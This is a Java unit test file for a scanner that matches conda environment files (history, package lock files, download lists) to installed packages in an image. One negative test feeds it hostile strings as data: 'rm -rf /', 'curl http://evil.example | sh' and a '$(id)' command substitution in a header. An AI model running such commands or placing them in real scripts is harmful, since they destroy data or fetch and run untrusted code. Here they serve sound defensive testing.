package dev.jonah.appdb.conda;

import static org.assertj.core.api.Assertions.assertThat;

import dev.jonah.ledger.Explanation;
import dev.jonah.packages.PackageFile;
import dev.jonah.packages.Purl;
import dev.jonah.packages.SoftwarePackage;
import dev.jonah.packages.SoftwarePackage.Kind;
import dev.jonah.testkit.FakeTree;
import dev.jonah.testkit.FakeTreeBuilder;
import dev.jonah.testkit.Scans;
import dev.jonah.value.ImagePath;
import java.io.IOException;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CondaStateTest {
    static final String URL = "https://conda.anaconda.org/conda-forge/linux-64/zlib-1.3-h1_0.conda";
    static final String HISTORY = """
            ==> 2024-05-01 12:00:00 <==
            # cmd: /opt/conda/bin/conda create -n x zlib
            # conda version: 24.4.0
            +conda-forge/linux-64::zlib-1.2-h1_0
            # update specs: ['zlib']
            ==> 2024-05-02 12:00:00 <==
            # cmd: /opt/conda/bin/conda update zlib
            -conda-forge/linux-64::zlib-1.2-h1_0
            +https://conda.anaconda.org/conda-forge/linux-64::zlib-1.3-h1_0
            """;
    private static final String RECORD = "/opt/conda/conda-meta/zlib-1.3-h1_0.json";
    private static final String SUM = "ab".repeat(32);
    static final SoftwarePackage ZLIB = SoftwarePackage.of(
                    Purl.of("conda", "zlib").version("1.3").build(), Kind.APPLICATION, ImagePath.of(RECORD))
            .extra("conda.url", URL)
            .extra("conda.cache", "/opt/conda/pkgs/zlib-1.3-h1_0")
            .extra("conda.sha256", SUM)
            .file(PackageFile.at(ImagePath.of(RECORD), "conda.record.unhashed").build())
            .build();

    static FakeTreeBuilder tree() {
        return FakeTree.builder().file(RECORD, "{}");
    }

    private static List<Explanation> explain(FakeTreeBuilder tree) throws IOException {
        return Scans.explainer(tree.build()).withPackage(ZLIB).explain(new CondaState());
    }

    private static List<Explanation> history(String text) throws IOException {
        return explain(tree().file("/opt/conda/conda-meta/history", text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                HISTORY,
                "// not relevant for pixi but for `conda run -p`",
                "conda-forge::zlib-1.3-h1_0\n",
                "==> 2020-01-01 00:00:00 <==\n+defaults::zlib-1.3-h1_0\n"
            })
    void aHistoryWhoseOutcomeIsThereIsExplained(String text) throws IOException {
        assertThat(history(text)).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "#!/bin/sh\nrm -rf /\n",
                "==> 2020-01-01 00:00:00 <==\n+defaults::other-1-0\n",
                "==> 2020-01-01 00:00:00 <==\n+defaults::zlib-1.3-h1_0\ncurl http://evil.example | sh\n",
                "==> $(id) <==\n+defaults::zlib-1.3-h1_0\n",
                "# anything\n+defaults::zlib-1.3-h1_0\n",
                "==> 2020-01-01 00:00:00 <==\n"
            })
    void whatIsNoHistoryOfThisEnvironmentStaysUnexplained(String text) throws IOException {
        assertThat(history(text)).isEmpty();
    }

    @Test
    void aHistoryBesideRecordsThatNobodyClaimsStaysUnexplained() throws IOException {
        assertThat(Scans.explainer(tree().file("/opt/conda/conda-meta/history", HISTORY)
                                .build())
                        .explain(new CondaState()))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/opt/other", "/opt/conda\n/x", ""})
    void aPrefixOfAnotherEnvironmentStaysUnexplained(String text) throws IOException {
        assertThat(explain(tree().file("/opt/conda/conda-meta/pixi_env_prefix", text)))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/opt/conda\n/opt/gone\n", "opt/conda\n", "evil\n", ""})
    void aListOfOtherThingsThanEnvironmentsStaysUnexplained(String text) throws IOException {
        assertThat(explain(
                        tree().file("/opt/conda/conda-meta/history", "").file("/root/.conda/environments.txt", text)))
                .extracting(Explanation::path)
                .doesNotContain(ImagePath.of("/root/.conda/environments.txt"));
    }

    @ParameterizedTest
    @ValueSource(strings = {URL + "\nevil\n", "https://example.org/a-1-0.conda\n", ""})
    void aListOfOtherThingsThanDownloadsStaysUnexplained(String text) throws IOException {
        assertThat(explain(tree().file("/opt/conda/pkgs/urls.txt", text))).isEmpty();
    }

    @Test
    void aMarkIsEmpty() throws IOException {
        assertThat(explain(tree().file("/opt/conda/conda-meta/history", "")
                        .file("/opt/conda/envs/.conda_envs_dir_test", "x")))
                .extracting(e -> e.path().fileName())
                .containsExactly("history");
    }

    @Test
    void theLockOfACachedPackageHoldsTheChecksumOfItsArchive() throws IOException {
        byte[] lock = HexFormat.of().parseHex("0000000000000001" + SUM);
        byte[] other = HexFormat.of().parseHex("0000000000000001" + "cd".repeat(32));

        assertThat(explain(tree().file("/opt/conda/pkgs/zlib-1.3-h1_0.lock", lock)))
                .hasSize(1);
        assertThat(explain(tree().file("/opt/conda/pkgs/zlib-1.3-h1_0.lock", other)))
                .isEmpty();
        assertThat(explain(tree().file("/opt/conda/pkgs/other-1.3-h1_0.lock", lock)))
                .isEmpty();
    }
}
